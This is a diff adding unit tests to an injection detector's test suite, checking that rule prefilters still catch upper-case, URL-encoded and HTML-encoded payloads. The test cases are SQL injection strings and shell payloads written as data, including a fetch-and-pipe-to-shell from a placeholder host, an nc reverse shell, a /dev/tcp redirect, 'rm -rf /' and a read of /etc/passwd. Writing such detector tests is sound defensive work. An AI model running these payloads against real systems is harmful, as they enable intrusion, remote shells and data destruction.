@@ -136,3 +136,43 @@ describe("shellDetector", () => {
     expect(shell.sanitize).toBeUndefined();
   });
 });
+
+/**
+ * Each rule runs only on forms holding a character or word every match needs (a prefilter). These
+ * payloads show their trigger only in upper case, after decoding, or at the very end of the text:
+ * a prefilter that looked at the wrong form or case would let them through.
+ */
+describe("prefilters skip no match", () => {
+  const cases: [rules: string[], text: string, detect: (text: string) => string[]][] = [
+    [["tautology"], "name OR x LIKE x", sqlRules],
+    [["tautology"], "1 OR TRUE#", sqlRules],
+    [["tautology"], "&#39; OR 1=1--", sqlRules],
+    [["comment-after-quote"], "admin' --  \n ", sqlRules],
+    [["comment-after-quote"], "admin'#\t", sqlRules],
+    [["union-select"], "1%20UNION%20SELECT%201", sqlRules],
+    [["comment-after-quote", "time-based"], "'; WAITFOR DELAY '0:0:5'--", sqlRules],
+    [["time-based"], "1 AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)=1", sqlRules],
+    [["schema-probe"], "SELECT name FROM SYSOBJECTS", sqlRules],
+    [["schema-probe"], "SELECT user FROM MYSQL.USER", sqlRules],
+    [["file-access"], "SELECT 1 INTO OUTFILE '/tmp/x'", sqlRules],
+    [["file-access"], "SELECT 1 INTO DUMPFILE '/tmp/x'", sqlRules],
+    [["command-separator", "payload-command"], "x; CAT /ETC/PASSWD", shellRules],
+    [["payload-command"], "WGET http://x.example/a.sh | SH", shellRules],
+    [["payload-command"], "NC -E /bin/sh 10.0.0.1 4444", shellRules],
+    [["payload-command"], "BASH -I", shellRules],
+    [["payload-command"], "RM -RF /", shellRules],
+    [["payload-command"], "MKFIFO /tmp/f", shellRules],
+    [["payload-command"], "() { :; }; echo hi", shellRules],
+    [["payload-command"], "SYSTEM('id')", shellRules],
+    [["dev-tcp"], "exec > /DEV/TCP/10.0.0.1/80", shellRules],
+    [["newline-command"], "a\\nid", shellRules],
+    [["newline-command"], "a%0Aid", shellRules],
+    [["command-separator", "pipe-command"], "x&#124;id", shellRules],
+  ];
+  for (const [rules, text, detect] of cases) it(`${rules.join(", ")}: ${JSON.stringify(text)}`, () => expect(detect(text)).toEqual(rules));
+
+  it("a word a rule looks for, in prose, is still no finding", () => {
+    expect(sqlRules("I like it; or not.")).toEqual([]);
+    expect(shellRules("Please remove the -i flag, then rm the old file.")).toEqual([]);
+  });
+});
